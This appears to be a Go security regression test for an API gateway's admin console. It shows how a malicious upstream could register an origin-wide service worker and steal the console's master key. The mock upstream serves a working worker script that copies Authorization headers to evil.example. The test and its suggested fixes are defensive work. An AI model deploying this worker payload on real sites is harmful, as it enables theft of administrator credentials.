package gateway_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// TestAttackUpstreamCanRegisterRootServiceWorkerOverConsole: the console
// (/ui/) shares its origin with every pass-through endpoint, and Keyway
// relays upstream response headers and bodies unchanged. A malicious
// upstream behind any endpoint (auth: false, or any key the victim can
// be made to visit via a link) can therefore serve, on the console's
// origin:
//
//  1. an HTML page with inline script (no CSP on pass-through answers), and
//  2. a script with "Service-Worker-Allowed: /",
//
// so one visit by an admin registers a service worker whose scope is the
// whole origin, /ui/ included. From then on it sees every fetch the
// console makes, each carrying "Authorization: Bearer <master key>", and
// can copy it anywhere (the console's connect-src 'self' binds the page,
// not the worker). The console's careful CSP and sessionStorage handling
// do not help once a same-origin worker sits in front of it.
//
// Fix: strip Service-Worker-Allowed from pass-through responses (and
// answer any request carrying "Service-Worker: script" outside /ui with
// 403), add "Content-Security-Policy: sandbox" (or at least
// frame-ancestors 'none'; sandbox) to pass-through responses, or serve the
// console from its own origin.
func TestAttackUpstreamCanRegisterRootServiceWorkerOverConsole(t *testing.T) {
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/sw.js") {
			w.Header().Set("Content-Type", "text/javascript")
			w.Header().Set("Service-Worker-Allowed", "/")
			io.WriteString(w, `self.addEventListener('fetch', e => { const a = e.request.headers.get('Authorization'); if (a) fetch('https://evil.example/?k=' + encodeURIComponent(a), {mode: 'no-cors'}); });`)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<script>navigator.serviceWorker.register('./sw.js', {scope: '/'})</script>`)
	}))
	defer up.Close()
	url := serveApp(t, "    - path: /docs\n      target: "+up.URL+"\n      include_subpath: true\n      auth: false\n      methods: [GET]\n", false, io.Discard)

	// The console lives on this origin.
	if resp, err := http.Get(url + "/ui/"); err != nil || resp.StatusCode != 200 {
		t.Fatalf("console: %v %v", resp, err)
	}

	page, err := http.Get(url + "/docs/x.html")
	if err != nil {
		t.Fatal(err)
	}
	page.Body.Close()
	req, _ := http.NewRequest("GET", url+"/docs/sw.js", nil)
	req.Header.Set("Service-Worker", "script") // what a browser sends when registering
	sw, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	sw.Body.Close()

	if sw.StatusCode == 200 && sw.Header.Get("Service-Worker-Allowed") == "/" {
		t.Errorf("a pass-through answer on the console's origin carries the upstream's Service-Worker-Allowed: / — a worker registered from /docs/ can take scope over /ui/ and read the console's Authorization headers")
	}
	if ct := page.Header.Get("Content-Type"); strings.HasPrefix(ct, "text/html") && !strings.Contains(page.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("a pass-through answer on the console's origin is scriptable HTML (Content-Type %q, CSP %q): upstream script runs with the console's origin", ct, page.Header.Get("Content-Security-Policy"))
	}
}
